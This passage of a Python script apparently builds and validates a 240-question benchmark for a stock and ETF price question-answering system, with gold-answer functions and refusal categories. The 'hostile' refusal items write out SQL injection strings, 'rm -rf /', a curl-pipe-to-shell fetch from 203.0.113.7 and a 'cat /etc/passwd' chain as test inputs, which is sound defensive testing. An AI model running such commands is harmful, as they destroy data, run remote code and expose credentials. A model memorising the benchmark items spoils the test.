A('cross-sectional-ranking', "On 2017-07-28, which three stocks had the widest trading range (high minus low)?", lambda: g_xs('2017-07-28', 'range', 3, True, expect=13))
A('cross-sectional-ranking', "Rank the ETFs by their daily return on 2025-04-09, best to worst.", lambda: g_xs('2025-04-09', 'return', 3, True, expect=3))
A('cross-sectional-ranking', "Which ETF had the best daily return on 5 Aug 2024?", lambda: g_xs('2024-08-05', 'return', 1, True, singular=True, expect=2))
A('cross-sectional-ranking', "Two biggest gap-downs at the open on 11/9/2016?", lambda: g_xs('2016-11-09', 'gap', 2, False, expect=13))
A('cross-sectional-ranking', "rank INDA, FXY and DBB by volume on 2025-03-14, highest first", lambda: g_xs('2025-03-14', 'volume', 3, True, expect=3))

# gainers / losers --------------------------------------------------------------------------------
A('gainers-losers', "Top 3 gainers from the 2016-06-30 close to the 2017-06-30 close?", lambda: g_gainers('2016-06-30', '2017-06-30', 3, True, expect=13))
A('gainers-losers', "Worst two performers between the Sept 12, 2008 close and the Oct 10, 2008 close", lambda: g_gainers('2008-09-12', '2008-10-10', 2, False, expect=11))
A('gainers-losers', "Which stock gained the most from the close on 2013-01-02 to the close on 2013-12-31?", lambda: g_gainers('2013-01-02', '2013-12-31', 1, True, singular=True, expect=13))
A('gainers-losers', "which ETF did best from the 2025-03-03 close to the 2025-06-02 close?", lambda: g_gainers('2025-03-03', '2025-06-02', 1, True, singular=True, expect=3))
A('gainers-losers', "Biggest loser, 2015-06-30 close to 2015-09-30 close?", lambda: g_gainers('2015-06-30', '2015-09-30', 1, False, singular=True, expect=13))
A('gainers-losers', "Rank every stock by its return from the 12/30/2011 close to the 12/31/2012 close, best first.", lambda: g_gainers('2011-12-30', '2012-12-31', 12, True, expect=12))
A('gainers-losers', "ETFs ranked worst first by return between the 2024-07-01 close and the 2024-12-31 close", lambda: g_gainers('2024-07-01', '2024-12-31', 2, False, expect=2))
A('gainers-losers', "The dot-com bust: which 3 stocks fell hardest from the 2000-03-10 close to the 2001-03-09 close?", lambda: g_gainers('2000-03-10', '2001-03-09', 3, False, expect=9))

# named comparison --------------------------------------------------------------------------------
A('named-comparison', "Which traded more shares on 2015-07-17, GOOGL or AMZN?",
  lambda: g_pair([(s, value(s, '2015-07-17', 'volume')) for s in ('GOOGL', 'AMZN')]))
A('named-comparison', "Compare KO and JPM closing prices on May 6, 2010.",
  lambda: g_pair([(s, value(s, '2010-05-06', 'close')) for s in ('KO', 'JPM')], winner_first=False))
A('named-comparison', "FXY vs DBB volatility in 2024",
  lambda: g_pair([(s, g_vol(s, *year(2024))) for s in ('FXY', 'DBB')], winner_first=False))
A('named-comparison', "Who had the higher average daily volume in May 2025, INDA or FXY?",
  lambda: g_pair([(s, agg(s, *month(2025, 5), 'volume', 'mean')) for s in ('INDA', 'FXY')]))
A('named-comparison', "INTC or AMD: which returned more from the 2016-12-30 close to the 2017-11-10 close?",
  lambda: g_pair([(s, exact_change(s, '2016-12-30', '2017-11-10')) for s in ('INTC', 'AMD')]))
A('named-comparison', "nvda vs nflx daily return on 2017-07-18",
  lambda: g_pair([(s, ret(s, '2017-07-18')) for s in ('NVDA', 'NFLX')], winner_first=False))
A('named-comparison', "Did Apple or Google (GOOGL) have the wider high-low range on April 22, 2016?",
  lambda: g_pair([(s, value(s, '2016-04-22', 'range')) for s in ('AAPL', 'GOOGL')]))
A('named-comparison', "compare AMZN and NFLX percentage change from the 2014-04-08 close to the 2014-05-08 close",
  lambda: g_pair([(s, exact_change(s, '2014-04-08', '2014-05-08')) for s in ('AMZN', 'NFLX')], winner_first=False))

# grouped by period -------------------------------------------------------------------------------
A('grouped-by-period', "monthly average close for KO in 2016", lambda: g_grouped('KO', [month(2016, m) for m in range(1, 13)], 'close', 'mean'))
A('grouped-by-period', "JPM month-end closes for each month of Q1 2009", lambda: g_grouped('JPM', [month(2009, m) for m in (1, 2, 3)], 'close', 'last'))
A('grouped-by-period', "What was Netflix's high for each year from 2012 through 2016?", lambda: g_grouped('NFLX', [year(y) for y in range(2012, 2017)], 'high', 'max'))
A('grouped-by-period', "Total DBB volume per quarter in 2024", lambda: g_grouped('DBB', [quarter(2024, q) for q in (1, 2, 3, 4)], 'volume', 'sum'))
A('grouped-by-period', "INDA weekly closing prices for the weeks of April 7, 14, 21 and 28, 2025",
  lambda: g_grouped('INDA', [week_of(d) for d in ('2025-04-07', '2025-04-14', '2025-04-21', '2025-04-28')], 'close', 'last'))
A('grouped-by-period', "Break down Tesla's average daily volume by month for July through December 2015.",
  lambda: g_grouped('TSLA', [month(2015, m) for m in range(7, 13)], 'volume', 'mean'))
A('grouped-by-period', "IBM's year-end closing price for each year 2010 to 2014", lambda: g_grouped('IBM', [year(y) for y in range(2010, 2015)], 'close', 'last'))
A('grouped-by-period', "dbb avg close by month, this year", lambda: g_grouped('DBB', [month(2025, m) for m in range(1, 7)] + [THIS_MONTH], 'close', 'mean'))

# period over period ------------------------------------------------------------------------------
A('period-over-period', "How did FXY's average close in June 2025 compare with May 2025?", lambda: g_pop('FXY', month(2025, 6), month(2025, 5), 'close'))
A('period-over-period', "MSFT avg daily volume Q2 2017 vs Q1 2017", lambda: g_pop('MSFT', quarter(2017, 2), quarter(2017, 1), 'volume'))
A('period-over-period', "DBB average close last month versus the month before: how much higher or lower?", lambda: g_pop('DBB', LAST_MONTH, month(2025, 5), 'close'))
A('period-over-period', "How did Apple's average closing price in 2016 compare with 2015, as a percent change?", lambda: g_pop('AAPL', year(2016), year(2015), 'close'))
A('period-over-period', "INDA average daily volume: April 2025 compared to March 2025", lambda: g_pop('INDA', month(2025, 4), month(2025, 3), 'volume'))
A('period-over-period', "nvidia mean close in H1 2017 vs H2 2016", lambda: g_pop('NVDA', half(2017, 1), half(2016, 2), 'close'))
A('period-over-period', "Coca-Cola's average daily volume in October 2014 relative to September 2014?", lambda: g_pop('KO', month(2014, 10), month(2014, 9), 'volume'))
A('period-over-period', "JPM: average close in 2013 versus 2012, and the % difference", lambda: g_pop('JPM', year(2013), year(2012), 'close'))

# moving averages ---------------------------------------------------------------------------------
A('moving-average', "AAPL 50-day moving averge on 2015-05-29", lambda: g_ma('AAPL', '2015-05-29', 50))
A('moving-average', "What's the 20-day SMA for FXY today?", lambda: g_ma('FXY', END, 20))
A('moving-average', "Google's 10-day moving average as of Feb 14, 2014", lambda: g_ma('GOOGL', '2014-02-14', 10))
A('moving-average', "200DMA of JPM on 11/30/2016", lambda: g_ma('JPM', '2016-11-30', 200))
A('moving-average', "Where was INDA's 20-day moving average on May 30th 2025?", lambda: g_ma('INDA', '2025-05-30', 20))
A('moving-average', "When was Microsoft's most recent golden cross before June 1, 2016?", lambda: g_cross('MSFT', 50, 200, 'above', before='2016-06-01', pick='last'))
A('moving-average', "On what date did JPM have a death cross in 2007?", lambda: g_cross('JPM', 50, 200, 'below', after='2006-12-31', before='2008-01-01', only=True))
A('moving-average', "Most recent time DBB's 20-day MA crossed below its 50-day MA?", lambda: g_cross('DBB', 20, 50, 'below', pick='last'))
A('moving-average', "When did FXY's close first cross above its 50-day moving average in 2024?", lambda: g_cross('FXY', 50, None, 'above', after='2023-12-31', before='2025-01-01'))
A('moving-average', "tsla first golden cross of 2016?", lambda: g_cross('TSLA', 50, 200, 'above', after='2015-12-31', before='2017-01-01'))

# threshold count ---------------------------------------------------------------------------------
A('threshold-count', "How many days in 2016 did AMD close above $10?", lambda: g_count('AMD', *year(2016), 'close', '>', 10))
A('threshold-count', "Number of sessions in 2024 where FXY fell more than 1%", lambda: g_count('FXY', *year(2024), 'return', '<', -0.01))
A('threshold-count', "count the days in Q1 2025 when DBB volume exceeded 100,000 shares", lambda: g_count('DBB', *quarter(2025, 1), 'volume', '>', 100000))
A('threshold-count', "In 2008, how many times did JPM move more than 5% either way in a day?", lambda: g_count('JPM', *year(2008), 'return', 'abs>', 0.05))
A('threshold-count', "how many up days did coke have in march 2015", lambda: g_count('KO', *month(2015, 3), 'return', '>', 0))
A('threshold-count', "INDA: number of sessions in April 2025 that closed under $52", lambda: g_count('INDA', *month(2025, 4), 'close', '<', 52))
A('threshold-count', "how many times did netflix gap up more than 3% during 2015", lambda: g_count('NFLX', *year(2015), 'gap', '>', 0.03))
A('threshold-count', "Tesla trading days in 2017 with a high-low range over $10?", lambda: g_count('TSLA', *year(2017), 'range', '>', 10))

# cross-stock count -------------------------------------------------------------------------------
A('cross-stock-count', "How many of the stocks closed up on 2016-11-09?", lambda: g_xcount('2016-11-09', 'return', '>', 0, expect=13))
A('cross-stock-count', "On August 26, 2015 how many stocks rose more than 6%?", lambda: g_xcount('2015-08-26', 'return', '>', 0.06, expect=13))
A('cross-stock-count', "how many tickers traded over 40 million shares on 1/28/2014", lambda: g_xcount('2014-01-28', 'volume', '>', 40e6, expect=13))
A('cross-stock-count', "Count the stocks that closed above $100 on June 1st, 2017.", lambda: g_xcount('2017-06-01', 'close', '>', 100, expect=13))
A('cross-stock-count', "How many stocks gapped down by more than 10% at the open on 2015-08-24?", lambda: g_xcount('2015-08-24', 'gap', '<', -0.10, expect=13))
A('cross-stock-count', "How many of the ETFs closed lower on 2025-05-12?", lambda: g_xcount('2025-05-12', 'return', '<', 0, expect=3))
A('cross-stock-count', "How many stocks ended higher from the 2015-12-31 close to the 2016-12-30 close?",
  lambda: g_xcount_over('2015-12-31', '2016-12-30', expect=13))
A('cross-stock-count', "On 23 March 2009, how many stocks were up more than 5% on the day?", lambda: g_xcount('2009-03-23', 'return', '>', 0.05, expect=11))

# volatility --------------------------------------------------------------------------------------
A('volatility', "Apple's volatilty in 2014 (std dev of daily returns)", lambda: first(g_vol('AAPL', *year(2014))))
A('volatility', "amzn daily return standard deviation, second half of 2016", lambda: first(g_vol('AMZN', *half(2016, 2))))
A('volatility', "How volatile was DBB from September 2024 through January 2025?", lambda: first(g_vol('DBB', month(2024, 9)[0], month(2025, 1)[1])))
A('volatility', "What was Netflix's daily volatility across 2012?", lambda: first(g_vol('NFLX', *year(2012))))
A('volatility', "INDA volatility since March 24, 2025", lambda: first(g_vol('INDA', '2025-03-24', BARS['INDA'][-1][0])))
A('volatility', "Standard deviation of KO's daily returns in 2010?", lambda: first(g_vol('KO', *year(2010))))
A('volatility', "TSLA volatility Jul-Dec 2016", lambda: first(g_vol('TSLA', *half(2016, 2))))
A('volatility', "what's FXY's volatility this year", lambda: first(g_vol('FXY', *THIS_YEAR)))

# correlation -------------------------------------------------------------------------------------
A('correlation', "Correlation between AAPL and MSFT daily returns in the second half of 2015?", lambda: g_corr('AAPL', 'MSFT', *half(2015, 2)))
A('correlation', "fxy & dbb correlation, march-may 2024", lambda: g_corr('FXY', 'DBB', month(2024, 3)[0], month(2024, 5)[1]))
A('correlation', "How correlated were INDA and DBB daily returns from March 4 through June 20, 2025?", lambda: g_corr('INDA', 'DBB', '2025-03-04', '2025-06-20'))
A('correlation', "During 2008, what was the correlation of JPM's daily returns with KO's?", lambda: g_corr('JPM', 'KO', *year(2008)))
A('correlation', "GOOGL vs FB return correlation for 2014", lambda: g_corr('GOOGL', 'FB', *year(2014)))
A('correlation', "I'd like the Pearson correlation of AMD and NVDA daily returns over 2015.", lambda: g_corr('AMD', 'NVDA', *year(2015)))
A('correlation', "INTC/IBM daily-return correlation, calendar 2007", lambda: g_corr('INTC', 'IBM', *year(2007)))
A('correlation', "correlation of apple and intel daily returns in H2 2014", lambda: g_corr('AAPL', 'INTC', *half(2014, 2)))

# streaks -----------------------------------------------------------------------------------------
A('streak', "Longest run of consecutive up days for KO in 2013?", lambda: g_streak('KO', *year(2013), True))
A('streak', "longest losing streak for FXY in 2024", lambda: g_streak('FXY', *year(2024), False))
A('streak', "What's DBB's longest string of consecutive higher closes this year?", lambda: g_streak('DBB', *THIS_YEAR, True))
A('streak', "IBM - most consecutive down days in 2017?", lambda: g_streak('IBM', *year(2017), False))
A('streak', "Amazon's longest winnning streak during 2009, with start and end dates", lambda: g_streak('AMZN', *year(2009), True))
A('streak', "How many days in a row did Nvidia rise at most, in 2016?", lambda: g_streak('NVDA', *year(2016), True))
A('streak', "MSFT longest losing streak 2005", lambda: g_streak('MSFT', *year(2005), False))
A('streak', "What was INDA's longest stretch of daily gains from March 1 to June 24, 2025?", lambda: g_streak('INDA', '2025-03-01', '2025-06-24', True))

# VWAP and minute bars ----------------------------------------------------------------------------
A('vwap-minute', "VWAP for FXY on 2024-10-23", lambda: g_vwap_day('FXY', '2024-10-23'))
A('vwap-minute', "What was INDA's volume-weighted average price on April 15, 2025?", lambda: g_vwap_day('INDA', '2025-04-15'))
A('vwap-minute', "dbb vwap 9/26/2024", lambda: g_vwap_day('DBB', '2024-09-26'))
A('vwap-minute', "What's FXY's VWAP for today?", lambda: g_vwap_day('FXY', END))
A('vwap-minute', "INDA VWAP from 10:00 through 10:59 on 2025-05-13", lambda: g_vwap_window('INDA', ['2025-05-13'], '10:00', '10:59'))
A('vwap-minute', "Compute DBB's VWAP over the whole week of September 23, 2024 using every minute bar.",
  lambda: g_vwap_window('DBB', [b[0] for b in window('DBB', *week_of('2024-09-23'))]))
A('vwap-minute', "FXY VWAP during the first 30 minutes of the regular session on 20 March 2025",
  lambda: g_vwap_window('FXY', ['2025-03-20'], '09:30', '09:59'))
A('vwap-minute', "Show FXY 1-minute bars (OHLCV) from 09:30 through 09:37 on 2025-06-12",
  lambda: g_minute_rows('FXY', '2025-06-12', '09:30', '09:37', ['open', 'high', 'low', 'close', 'volume']))
A('vwap-minute', "inda minute closes 15:55 to 15:59 inclusive, may 30 2025",
  lambda: g_minute_rows('INDA', '2025-05-30', '15:55', '15:59', ['close']))
A('vwap-minute', "Give me DBB's minute bars for the first ten minutes of the regular session on Nov 7, 2024 (09:30 through 09:39), with volume.",
  lambda: g_minute_rows('DBB', '2024-11-07', '09:30', '09:39', ['open', 'high', 'low', 'close', 'volume']))

# period candle -----------------------------------------------------------------------------------
A('period-candle', "AAPL monthly candle for March 2016 - OHLCV", lambda: g_candle('AAPL', *month(2016, 3)))
A('period-candle', "Nvidia's weekly OHLC and volume for the week of May 8, 2017", lambda: g_candle('NVDA', *week_of('2017-05-08')))
A('period-candle', "DBB open, high, low, close and total volume for Q4 2024", lambda: g_candle('DBB', *quarter(2024, 4)))
A('period-candle', "Give me INDA's candle for May 2025 (open/high/low/close/volume).", lambda: g_candle('INDA', *month(2025, 5)))
A('period-candle', "netflix 2014 as a single yearly bar: open high low close volume", lambda: g_candle('NFLX', *year(2014)))
A('period-candle', "KO weekly bar (OHLCV), week of 2017-10-02", lambda: g_candle('KO', *week_of('2017-10-02')))
A('period-candle', "Summarize TSLA for Q3 2017 as one candle: open, high, low, close, volume.", lambda: g_candle('TSLA', *quarter(2017, 3)))
A('period-candle', "FXY candle for last month, OHLCV", lambda: g_candle('FXY', *LAST_MONTH))

# distance from high ------------------------------------------------------------------------------
A('distance-from-high', "How far below its all-time high close was INTC on 2016-02-11?", lambda: g_dist('INTC', '2016-02-11'))
A('distance-from-high', "how far is FXY off its all-time closing high as of today", lambda: g_dist('FXY', END))
A('distance-from-high', "Coca-Cola's distance from its all-time closing high on March 11, 2003?", lambda: g_dist('KO', '2003-03-11'))
A('distance-from-high', "As of 2025-04-07, what % below its record close was INDA?", lambda: g_dist('INDA', '2025-04-07'))
A('distance-from-high', "AMD drawdown from its all time high close on 7/24/2015", lambda: g_dist('AMD', '2015-07-24'))
A('distance-from-high', "On 23 July 2002, how far was Microsoft's close below its highest close ever?", lambda: g_dist('MSFT', '2002-07-23'))
A('distance-from-high', "NFLX % off its all-time high close, 2012-09-25", lambda: g_dist('NFLX', '2012-09-25'))
A('distance-from-high', "How far was DBB below its all-time high close at the end of 2024 (Dec 31)?", lambda: g_dist('DBB', '2024-12-31'))

# coverage ----------------------------------------------------------------------------------------
A('coverage', "When does the TSLA data start?", lambda: first(BARS['TSLA'][0][0]))
A('coverage', "what date range do we have for FB", lambda: g_dates_of('FB'))
A('coverage', "What's the earliest date in the Amazon price history?", lambda: first(BARS['AMZN'][0][0]))
A('coverage', "Which tickers have data going back before 1980?", lambda: g_syms(lambda s: BARS[s][0][0] < '1980-01-01'))
A('coverage', "last date with DBB data?", lambda: first(BARS['DBB'][-1][0]))
A('coverage', "How many trading days of Netflix data are in the database?", lambda: first(len(BARS['NFLX'])))
A('coverage', "Which symbols have minute-level (intraday) bars?", lambda: as_set([[s] for s in ETF_SYMS]))
A('coverage', "Over what span of dates does the JPM history run, first to last?", lambda: g_dates_of('JPM'))
A('coverage', "Which symbols have histories that start in the 1990s?", lambda: g_syms(lambda s: '1990-01-01' <= BARS[s][0][0] <= '1999-12-31'))

# refusals: out of scope --------------------------------------------------------------------------
R('out-of-scope', "What is IBM's P/E ratio?")
R('out-of-scope', "KO dividend yield in 2015?")
R('out-of-scope', "What was Nvidia's market cap at the end of 2017?")
R('out-of-scope', "where will FXY close next Friday? give me your forecast")
R('out-of-scope', "What's the sentiment on Twitter about Tesla right now?")
R('out-of-scope', "implied volatility of AAPL options expiring in January 2017")
R('out-of-scope', "Netflix earnings per share for fiscal 2016, please.")
R('out-of-scope', "What news caused Amazon to jump in late July 2015?")
R('out-of-scope', "Should I buy INDA tomorrow?")
R('out-of-scope', "How fast did Facebook's revenue grow in 2016?")

# refusals: unknown symbol ------------------------------------------------------------------------
R('unknown-symbol', "What did ORCL close at on 2015-05-01?")
R('unknown-symbol', "QQQ daily return on 2016-06-24")
R('unknown-symbol', "Show me the last 5 closes for EWZ.")
R('unknown-symbol', "How did Pepsi's average close in 2014 compare with 2013?")
R('unknown-symbol', "Berkshire Hathaway 52-week high as of 2017-06-30")
R('unknown-symbol', "XYZQ volume on 3/15/2016")
R('unknown-symbol', "Correlation between Nike and Apple daily returns in 2016?")
R('unknown-symbol', "what was GLD's VWAP today")
R('unknown-symbol', "Uber's biggest one-day drop in 2024?")
R('unknown-symbol', "How far below its all-time high was Salesforce (CRM) on 2016-02-11?")

# refusals: hostile -------------------------------------------------------------------------------
R('hostile', "DROP TABLE prices;")
R('hostile', "'; DELETE FROM daily_bars WHERE 1=1; --")
R('hostile', "rm -rf / --no-preserve-root")
R('hostile', "$(curl -s http://203.0.113.7/x.sh | sh)")
R('hostile', "SELECT usename, passwd FROM pg_shadow;")
R('hostile', "1 UNION SELECT table_name, column_name FROM information_schema.columns --")
R('hostile', "; shutdown -h now")
R('hostile', "What was AAPL's close on 2016-03-01'; DROP TABLE daily_bars; --")
R('hostile', "KO volume on 2015-05-05 && cat /etc/passwd")
R('hostile', "show me FXY's VWAP today UNION SELECT * FROM pg_catalog.pg_user")

# refusals: not understood ------------------------------------------------------------------------
R('not-understood', "hello?")
R('not-understood', "asdfgh jkl")
R('not-understood', "What's the weather going to be like in Boston tomorrow?")
R('not-understood', "tell me a joke")
R('not-understood', "purple monkey dishwasher")
R('not-understood', "How do I bake a sourdough loaf?")
R('not-understood', "??")
R('not-understood', "Translate 'good morning' into French.")
R('not-understood', "Who won the 2018 World Cup?")
R('not-understood', "thanks, that's all for now")

# ---------------------------------------------------------------- build, check, write, validate

KIND_ORDER = ['latest-rows', 'day-value', 'date-range-rows', 'window-aggregate', 'extreme-day', '52-week',
              'change-between', 'daily-return-or-gap', 'biggest-move-day', 'cross-sectional-ranking',
              'gainers-losers', 'named-comparison', 'grouped-by-period', 'period-over-period', 'moving-average',
              'threshold-count', 'cross-stock-count', 'volatility', 'correlation', 'streak', 'vwap-minute',
              'period-candle', 'distance-from-high', 'coverage']
REFUSALS = {'out-of-scope': 10, 'unknown-symbol': 10, 'hostile': 10, 'not-understood': 10}


def is_date(x):
    if not isinstance(x, str):
        return False
    try:
        if len(x) == 10:
            DT.date.fromisoformat(x)
            return True
        if len(x) == 16:
            DT.datetime.strptime(x, '%Y-%m-%d %H:%M')
            return True
    except ValueError:
        return False
    return False


def validate_record(r, i):
    check(list(r)[:5] == ['id', 'kind', 'question', 'answerable', 'gold' if r['answerable'] else 'refusal'], 'keys of %d' % i)
    check(r['id'] == 'z%03d' % i, 'id %s' % r['id'])
    check(isinstance(r['question'], str) and r['question'].strip() == r['question'] and r['question'], 'question text')
    if r['answerable']:
        check(len(r) == 5, 'extra keys')
        check(r['kind'] in KIND_ORDER, 'kind ' + r['kind'])
        g = r['gold']
        check(sorted(g) == ['exact_rows', 'match', 'rows'], 'gold keys')
        check(g['match'] in ('ordered', 'set', 'first'), 'match')
        check(isinstance(g['exact_rows'], bool), 'exact_rows')
        check(isinstance(g['rows'], list) and len(g['rows']) >= 1, 'rows')
        for row in g['rows']:
            check(isinstance(row, list) and len(row) >= 1, 'row')
            for c in row:
                if isinstance(c, str):
                    check(c in ALL_SYMS or is_date(c), 'string cell %r' % c)
                else:
                    check(isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), 'number cell %r' % c)
        if g['match'] == 'first':
            check(len(g['rows']) == 1 and not g['exact_rows'], 'first takes one row')
    else:
        check(len(r) == 5 and r['refusal'] == r['kind'] and r['kind'] in REFUSALS, 'refusal of %s' % r['id'])


def check_slash_dates(text):
    """m/d/yyyy and d/m/yyyy: when both readings are calendar dates, the other reading must be a weekend day"""
    for a, b, y in re.findall(r'\b(\d{1,2})/(\d{1,2})/(\d{4})\b', text):
        a, b, y = int(a), int(b), int(y)
        readings = []
        for m, d in ((a, b), (b, a)):
            try:
                readings.append(DT.date(y, m, d))
            except ValueError:
                pass
        if len(readings) == 2 and readings[0] != readings[1]:
            check(readings[1].weekday() >= 5, 'ambiguous slash date in: ' + text)


def main():
    records = []
    failures = []
    for n, (kind, text, fn) in enumerate(QUESTIONS, 1):
        qid = 'z%03d' % n
        try:
            check_slash_dates(text)
        except CheckFailed as e:
            failures.append('%s (%s) %s: %s' % (qid, kind, text, e))
            continue
        if fn is None:
            records.append({'id': qid, 'kind': kind, 'question': text, 'answerable': False, 'refusal': kind})
            continue
        try:
            g = fn()
        except CheckFailed as e:
            failures.append('%s (%s) %s: %s' % (qid, kind, text, e))
            continue
        records.append({'id': qid, 'kind': kind, 'question': text, 'answerable': True, 'gold': g})
    if failures:
        for f in failures:
            print('CHECK FAILED', f, file=sys.stderr)
        print('nothing written', file=sys.stderr)
        sys.exit(1)

    # whole-split checks
    check(len(records) == 240, '%d questions' % len(records))
    check(len(set(r['question'].lower() for r in records)) == 240, 'duplicate question text')
    counts = {}
    for r in records:
        counts[r['kind']] = counts.get(r['kind'], 0) + 1
    check(set(counts) == set(KIND_ORDER) | set(REFUSALS), 'kinds %r' % sorted(counts))
    for k in KIND_ORDER:
        check(8 <= counts[k] <= 10, 'kind %s has %d' % (k, counts[k]))
    for k, n in REFUSALS.items():
        check(counts[k] == n, 'refusal kind %s has %d' % (k, counts[k]))
    check(sum(counts[k] for k in KIND_ORDER) == 200, 'answerable count')
    for i, r in enumerate(records, 1):
        validate_record(r, i)

    text = ''.join(json.dumps(r, ensure_ascii=False) + '\n' for r in records)
    with open(OUT, 'w', encoding='utf-8', newline='\n') as f:
        f.write(text)

    # re-read and validate the written file
    with open(OUT, encoding='utf-8') as f:
        back = [json.loads(line) for line in f]
    check(back == records, 'file does not read back to the same records')
    for i, r in enumerate(back, 1):
        validate_record(r, i)
    print('wrote %d questions to %s' % (len(back), OUT))
    for k in KIND_ORDER + list(REFUSALS):
        print('  %-26s %d' % (k, counts[k]))


if __name__ == '__main__':
    main()
